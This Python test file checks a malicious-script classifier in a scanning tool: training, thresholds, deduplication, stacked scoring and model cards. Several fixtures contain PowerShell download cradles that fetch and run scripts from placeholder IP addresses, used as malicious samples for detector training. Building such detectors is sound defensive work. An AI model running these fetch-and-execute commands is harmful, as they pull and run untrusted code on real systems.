"""The script classifier: trained by command, saved with a model card, better than chance on held-out files."""

from __future__ import annotations

import functools
import random
from pathlib import Path

import numpy as np
import pytest
from typer.testing import CliRunner

from phagocyte.analysers.classifier import ScriptClassifier, dedupe
from phagocyte.analysers.scan import Scanner
from phagocyte.cli.app import app
from tests.conftest import evaldata


def test_dedupe_drops_copies_and_contents_under_both_labels() -> None:
    texts, labels, stats = dedupe(["a", "a", "b", "c", "c"], [1, 1, 0, 1, 0])
    assert sorted(zip(texts, labels, strict=True)) == [("a", 1), ("b", 0)]
    assert stats == {"input": 5, "distinct": 3, "conflicting": 1}


def test_scan_train_command_writes_a_model_and_card(tmp_path: Path) -> None:
    mal, ben = tmp_path / "mal", tmp_path / "ben"
    mal.mkdir()
    ben.mkdir()
    for i in range(12):
        (mal / f"m{i}.ps1").write_text(f"$u{i} = 'http://198.51.100.{i}/p.ps1'\n"
                                       "IEX (New-Object Net.WebClient).DownloadString($u" + str(i) + ")\n")
        (ben / f"b{i}.ps1").write_text(f"param($Path{i})\nGet-ChildItem $Path{i} | Where-Object Length -gt {i}\n")
    model = tmp_path / "model"
    res = CliRunner().invoke(app, ["scan-train", "-l", "powershell", "--malicious", str(mal), "--benign", str(ben),
                                   "--model", str(model), "--licences", "written for this test",
                                   "--target-fpr", "0.0"])
    assert res.exit_code == 0, res.output
    card = (model / "MODEL_CARD.md").read_text()
    assert "written for this test" in card and "powershell" in card
    clf = ScriptClassifier.load(model)
    st = clf.meta["languages"]["powershell"]
    assert st["target_fpr"] == 0.0 and 0.05 <= st["threshold"] <= 0.95 and st["chars"] is False
    assert "threshold" in card
    v = Scanner(model=clf).scan_text("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/x')")
    assert any(r.source == "model" for r in v.reasons)
    assert clf.predict_proba_text("powershell", "Get-ChildItem C:\\ | Where-Object Length -gt 3") < 0.5


@pytest.mark.evaldata
def test_javascript_model_separates_held_out_files() -> None:
    from sklearn.metrics import roc_auc_score

    root = evaldata("javascript")
    rng = random.Random(6)
    mal = rng.sample(sorted((root / "javascript_malware_collection").rglob("*.js")), 90)
    ben = rng.sample(sorted((root / "benign_js_npm").rglob("*.js")), 90)
    data = [(p.read_text("latin-1"), 1) for p in mal] + [(p.read_text("latin-1"), 0) for p in ben]
    rng.shuffle(data)
    train, test = data[:120], data[120:]
    clf = ScriptClassifier()
    clf.fit("javascript", [t for t, _ in train], [y for _, y in train])
    p = clf.predict_proba("javascript", [t for t, _ in test])
    assert roc_auc_score(np.array([y for _, y in test]), p) > 0.9


def _toy(n: int, seed: int) -> tuple[list[str], list[int]]:
    """Hand-written PowerShell-like lines: downloaders vs file listings, with varied names."""
    rng = random.Random(seed)
    texts, labels = [], []
    for i in range(n):
        host = f"198.51.100.{rng.randrange(256)}"
        texts.append(f"$c{i} = New-Object Net.WebClient; IEX $c{i}.DownloadString('http://{host}/{i}.ps1')")
        labels.append(1)
        texts.append(f"Get-ChildItem C:\\Logs\\{i} -Recurse | Where-Object Length -gt {rng.randrange(9999)}")
        labels.append(0)
    return texts, labels


def test_to_score_is_monotone_and_puts_the_threshold_on_the_malicious_cut() -> None:
    from phagocyte.analysers.classifier import to_score

    p = np.array([0.01, 0.1, 0.3, 0.5, 0.9, 0.999])
    s = to_score(p, 0.3)
    assert np.all(np.diff(s) > 0)
    assert abs(float(to_score(np.array([0.3]), 0.3)[0]) - 0.7) < 1e-6
    assert abs(float(to_score(np.array([0.5]), 0.5)[0]) - 0.7) < 1e-6


def test_threshold_is_fitted_inside_the_training_data_and_drives_the_score() -> None:
    texts, labels = _toy(40, 1)
    clf = ScriptClassifier()
    stats = clf.fit("powershell", texts, labels, chars=True)
    t = clf.threshold("powershell")
    assert stats["threshold"] == round(t, 4) and 0.05 <= t <= 0.95
    held, held_y = _toy(20, 2)
    p = clf.predict_proba("powershell", held)
    s = clf.score("powershell", held)
    # the verdict's cut (0.7) on the score is the fitted threshold on the probability
    assert ((s >= 0.7) == (p >= t)).all()
    assert ((s >= 0.7) == np.array(held_y, dtype=bool)).mean() > 0.9


def test_model_saved_without_a_threshold_falls_back_to_one_half() -> None:
    texts, labels = _toy(10, 3)
    clf = ScriptClassifier()
    clf.fit("powershell", texts, labels, chars=False)
    del clf.meta["languages"]["powershell"]["threshold"]
    assert clf.threshold("powershell") == 0.5


def test_choose_threshold_keeps_inner_false_positives_at_the_target() -> None:
    from phagocyte.analysers.classifier import choose_threshold

    texts, labels = _toy(60, 4)
    # label noise: some listings marked malicious, so the threshold must move off the easy cut
    y = np.array(labels)
    y[1:40:8] = 1
    t = choose_threshold(texts, y, chars=False, target_fpr=0.0)
    assert 0.05 <= t <= 0.95
    assert choose_threshold(texts[:6], np.array(labels[:6]), chars=False) == 0.5  # too small to split


def test_near_duplicate_groups_join_near_copies_and_keep_unrelated_scripts_apart() -> None:
    from phagocyte.analysers.classifier import near_duplicate_groups

    tool = "\n".join(f"function Invoke-Step{i} {{ param([string]$T{i}) Get-Item $T{i} | Out-File log{i}.txt }}"
                     for i in range(40))
    banner = "# copied with a new banner\n" + tool.replace("log39.txt", "out39.txt")  # a near-copy, other bytes
    other = ("$c = New-Object Net.WebClient; $c.Headers.Add('User-Agent', 'Mozilla/5.0'); $c.Proxy = "
             "[Net.WebRequest]::DefaultWebProxy; IEX $c.DownloadString('http://198.51.100.7/a.ps1')")
    chain_a = other.replace("a.ps1", "b.ps1")
    texts = [tool, other, banner, "", "", chain_a, "Get-Process | Sort-Object CPU"]
    g = near_duplicate_groups(texts)
    assert len(g) == len(texts)
    assert g[0] == g[2]  # the copy with a changed banner and one changed name
    assert g[1] == g[5]  # the same cradle fetching another file
    assert g[3] == g[4]  # texts with no words: joined by their normalised text
    assert len({g[0], g[1], g[3], g[6]}) == 4
    assert near_duplicate_groups([]) == []
    # a stricter threshold separates what the default joins
    strict = near_duplicate_groups(texts, threshold=0.999)
    assert strict[1] != strict[5]


def test_near_duplicate_groups_work_block_by_block() -> None:
    from phagocyte.analysers.classifier import near_duplicate_groups

    texts, _ = _toy(30, 5)
    copies = texts + [t + " " for t in texts]  # each text again, with trailing whitespace
    whole = near_duplicate_groups(copies)
    blocks = near_duplicate_groups(copies, block=7)
    assert whole == blocks
    assert all(whole[i] == whole[i + len(texts)] for i in range(len(texts)))


@functools.cache
def _fitted(seed: int = 7) -> ScriptClassifier:
    """One stacked model for the tests below (fitting runs several inner cross-validations)."""
    texts, labels = _toy(40, seed)
    clf = ScriptClassifier()
    clf.fit("powershell", texts, labels)
    return clf


def test_stacked_model_round_trips_through_its_file_with_the_format_version(tmp_path: Path) -> None:
    from phagocyte.analysers.classifier import FORMAT, stack_features
    from phagocyte.analysers.scripts.heuristics import match_rules

    clf = _fitted()
    held, _ = _toy(6, 8)
    feats = [stack_features("powershell", match_rules("powershell", t), []) for t in held]
    before = [clf.judge("powershell", t, f) for t, f in zip(held, feats, strict=True)]
    clf.save(tmp_path / "m")
    assert ScriptClassifier.problem(tmp_path / "m") is None
    again = ScriptClassifier.load(tmp_path / "m")
    assert again.meta["format"] == FORMAT
    assert [again.judge("powershell", t, f) for t, f in zip(held, feats, strict=True)] == before
    st = again.meta["languages"]["powershell"]["stack"]
    assert 0.05 <= st["threshold"] <= 0.95 and len(st["weights"]) == 1 + len(feats[0])
    assert "stacked combination" in (tmp_path / "m" / "MODEL_CARD.md").read_text()


def test_a_model_without_the_stacked_combination_is_refused_with_a_clear_message(tmp_path: Path) -> None:
    import json

    from phagocyte.errors import InputError

    clf = _fitted()
    clf.save(tmp_path / "m")
    meta = json.loads((tmp_path / "m" / "meta.json").read_text())
    del meta["format"]  # as every model saved before format 2
    (tmp_path / "m" / "meta.json").write_text(json.dumps(meta))
    with pytest.raises(InputError, match=r"phagocyte-scan-model/1.*retrain"):
        ScriptClassifier.load(tmp_path / "m")
    res = CliRunner().invoke(app, ["scan", str(tmp_path / "m" / "meta.json"), "--model", str(tmp_path / "m")])
    assert res.exit_code != 0 and "retrain" in res.output
    # `phago run` with such a model in the home: a clear error, not a traceback
    home = tmp_path / "home"
    (home / "models").mkdir(parents=True)
    (tmp_path / "m").rename(home / "models" / "scan")
    (tmp_path / "x.ps1").write_text("Get-Process\n")
    res = CliRunner().invoke(app, ["run", "--home", str(home), str(tmp_path / "x.ps1")])
    assert res.exit_code != 0 and "retrain" in res.output
    assert isinstance(res.exception, SystemExit)
    assert not (home / "store").exists(), "refused before anything was ingested"
    # a text model fitted without the combination cannot be saved as a usable model either
    bare = ScriptClassifier()
    bare.fit("powershell", *_toy(10, 9), stack=False)
    with pytest.raises(InputError, match="stacked"):
        bare.save(tmp_path / "bare")


def test_stacked_score_never_falls_as_evidence_grows() -> None:
    from phagocyte.analysers.classifier import stack_features
    from phagocyte.analysers.scripts.heuristics import RULES
    from phagocyte.analysers.verdict import Reason

    clf = _fitted()
    assert all(w >= 0 for w in clf.meta["languages"]["powershell"]["stack"]["weights"])
    base = stack_features("powershell", [], [])
    p = np.linspace(0.001, 0.999, 50)
    s = clf.combined("powershell", p, [base] * len(p))
    assert np.all(np.diff(s) >= 0) and s[0] < 0.7 <= s[-1]  # a sure text model crosses the cut on its own
    # each heuristic hit, and more decoding layers, leave the score equal or higher at every probability
    for rule in RULES["powershell"][:12]:
        hit = stack_features("powershell", [Reason("heuristic", rule.name, rule.weight)], [])
        assert np.all(clf.combined("powershell", p, [hit] * len(p)) >= s - 1e-12)
    layered = stack_features("powershell", [Reason("heuristic", "obfuscated", 0.5)], ["base64", "iex", "base64"])
    assert np.all(clf.combined("powershell", p, [layered] * len(p)) >= s - 1e-12)
    # a reason from another source is not a heuristic feature
    assert stack_features("powershell", [Reason("yara", RULES["powershell"][0].name, 0.55)], []) == base


def test_verdict_with_a_model_keeps_its_reasons_and_is_scored_by_the_stacked_model() -> None:
    from phagocyte.analysers.verdict import combine

    clf = _fitted()
    v = Scanner(model=clf).scan_text("$c = New-Object Net.WebClient; IEX $c.DownloadString('http://198.51.100.9/x')")
    sources = {r.source for r in v.reasons}
    assert {"heuristic", "model"} <= sources
    model = next(r for r in v.reasons if r.source == "model")
    assert "top words:" in model.detail and "p(malicious)=" in model.detail
    words = model.detail.split("top words: ", 1)[1]
    assert "new-object" in words.lower() or "downloadstring" in words.lower() or "webclient" in words.lower()
    assert v.stacked and v.score == round(combine([model.weight]), 4)  # heuristics explain, the model scores
    assert v.label == "malicious"
    benign = Scanner(model=clf).scan_text("Get-ChildItem C:\\Logs -Recurse | Where-Object Length -gt 10")
    assert benign.label == "clean"
    # without a model the heuristics still score by noisy-OR, unchanged
    plain = Scanner().scan_text("$c = New-Object Net.WebClient; IEX $c.DownloadString('http://198.51.100.9/x')")
    assert not plain.stacked and plain.score == round(combine([r.weight for r in plain.reasons]), 4)


def test_top_words_name_the_hashed_columns_they_stand_for() -> None:
    from sklearn.feature_extraction.text import HashingVectorizer

    from phagocyte.analysers.classifier import _top_tokens

    clf = _fitted()
    model = clf.models["powershell"]
    text = "$c = New-Object Net.WebClient; IEX $c.DownloadString('http://198.51.100.9/x')"
    x = model[:-1].transform([text])
    n = model[0].steps[0][1].n_features
    one = HashingVectorizer(analyzer=lambda d: [d], n_features=n, alternate_sign=False, norm=None)
    top = _top_tokens(model, x, text, 5)
    assert top and len(top) <= 5
    assert all(any(ch.isalnum() for ch in item.rsplit(" (+", 1)[0]) for item in top)  # no bare punctuation
    for item in top:
        tok = item.rsplit(" (+", 1)[0]
        col = int(one.transform([tok]).indices[0])  # the column the vectorizer hashes this token to
        assert x[0, col] != 0 and model[-1].coef_[0][col] > 0
